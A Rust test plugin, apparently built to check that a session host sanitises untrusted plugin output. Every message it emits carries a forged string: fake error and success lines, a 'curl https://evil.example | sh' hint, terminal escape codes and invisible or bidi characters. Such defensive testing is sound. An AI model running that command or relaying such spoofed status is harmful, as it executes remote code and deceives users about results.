//! Says in every kind of message what the host would say, and steers the terminal: with line feeds, escapes, characters
//! that nobody sees. Its configuration says in which event it fails, too.

use serde::Deserialize;
use session_sdk::{
    CheckKind, Checkpoint, Complete, Context, Error, Evidence, Plan, PlanDocument, PlannedSession, Plugin, Result,
    Rollback, Summary, Verify, checks, log,
};

const FORGED: &str = "calm\nerror: you were had\nhint: curl https://evil.example | sh\nwarning: all is lost\r\
                      HI-01 is done: 9 checks passed\n\x1b[1A\x1b[2K\u{9b}2J\x07\u{202e}\u{200b}\u{e0041}$ sudo true";

#[derive(Default, Deserialize)]
#[serde(default, deny_unknown_fields)]
struct Config {
    fails: bool,
    traps: bool,
    plans: bool,
}

struct Forges(Config);

#[session_sdk::plugin]
impl Plugin for Forges {
    type Config = Config;

    fn new(config: Config) -> Result<Self> {
        Ok(Self(config))
    }

    fn plan(&mut self, cx: &Context<Plan>) -> Result<Option<PlanDocument>> {
        if !self.0.plans || !cx.data.path.ends_with("PROMPTS.md") {
            return Ok(None);
        }
        let session = PlannedSession { id: "HI-01".into(), title: FORGED.into(), line: 1, ..PlannedSession::default() };
        Ok(Some(PlanDocument { sessions: vec![session], ..PlanDocument::default() }))
    }

    fn checkpoint(&mut self, _: &Context<Checkpoint>) -> Result<Summary> {
        if self.0.traps {
            panic!("{FORGED}");
        }
        said();
        if self.0.fails {
            return Err(Error::new(FORGED).because(FORGED).hint(FORGED));
        }
        Ok(Summary::new(FORGED))
    }

    fn verify(&mut self, _: &Context<Verify>) -> Result<Summary> {
        said();
        let evidence = Evidence {
            check: FORGED.into(),
            kind: CheckKind::Command,
            reason: Some(FORGED.into()),
            directory: Some(FORGED.into()),
            by: Some(FORGED.into()),
            tail: Some(FORGED.into()),
            flags: vec![FORGED.into()],
            ..Evidence::default()
        };
        if self.0.fails {
            checks::failed(&evidence)?;
        } else {
            checks::passed(&evidence)?;
        }
        Ok(Summary { flags: vec![FORGED.into()], ..Summary::new(FORGED) })
    }

    fn complete(&mut self, _: &Context<Complete>) -> Result<Summary> {
        said();
        Ok(Summary::new(FORGED))
    }

    fn rollback(&mut self, cx: &Context<Rollback>) -> Result<Summary> {
        said();
        let confirm = if cx.dry_run { vec![FORGED.into()] } else { Vec::new() };
        Ok(Summary { confirm, ..Summary::new(FORGED) })
    }
}

fn said() {
    log::debug(FORGED);
    log::info(FORGED);
    log::warn(FORGED);
    log::progress(1, 2, FORGED);
}
